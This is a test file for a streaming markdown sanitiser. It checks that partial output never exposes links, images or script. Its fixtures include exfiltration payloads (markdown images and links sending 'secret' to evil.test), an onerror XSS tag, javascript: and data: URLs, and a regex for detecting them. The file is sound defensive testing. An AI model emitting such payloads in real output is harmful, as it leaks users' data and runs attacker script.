import { expect, it } from 'vitest';
import { safeMarkdown } from './safe-markdown.ts';
import { safePart, showing } from './safe-part.ts';

/** What no step may show, whole or in part: where it would carry something to, and what a browser would run. */
const HOSTILE = /https?:|\/\/evil|evil\.test|www\.|<\w|javascript:|data:|onerror/;
const attacks = [
  'See ![x](https://evil.test/p.png?d=secret) and [here](https://evil.test/?d=secret) or https://evil.test/secret there.',
  '<img src=x onerror=alert(1)> and <a href="//evil.test/secret">click</a> now',
  '[ref][1] and [two](//evil.test/secret) and [js](javascript:alert(1)).\n[1]: https://evil.test/secret\n',
  '[a [b](https://evil.test/secret)](//evil.test/secret) ![x][1]\n\n> [1]: //evil.test/secret\n\nend',
  'www.evil.test/secret <https://evil.test/secret> [c](data:text/html,x) end',
  '![](//evil.test/x',
];

it.each(attacks)('shows nothing of what is hostile at any step: %s', (written) => {
  for (let length = 0; length <= written.length; length += 1) {
    const part = safePart(written.slice(0, length));
    expect(part, `after ${length} characters`).not.toMatch(HOSTILE);
  }
});

it('shows words as they grow, and a link once it is whole', () => {
  const written = 'There are **two**: [FIX-1](/customer-requests/1) and more. 有两个 عاجلان';
  const shown = Array.from({ length: written.length + 1 }, (_, length) => safePart(written.slice(0, length)));
  expect(shown).toContain('There are **two**:');
  expect(shown.filter((part) => /\[|FIX|\]\(/.test(part)).every((part) => part.includes('[FIX-1](/customer-requests/1)'))).toBe(true);
  expect(shown.at(-1)).toBe(safeMarkdown(written));
  for (const [index, part] of shown.entries()) expect(written.startsWith(part), String(index)).toBe(true);
});

it('takes back at once what was told, and tells nothing twice', () => {
  const told: string[] = [];
  const show = showing((text) => told.push(text));
  show('One two ');
  show('One two three ');
  show('');
  show('');
  expect(told).toEqual(['One two', '']);
});
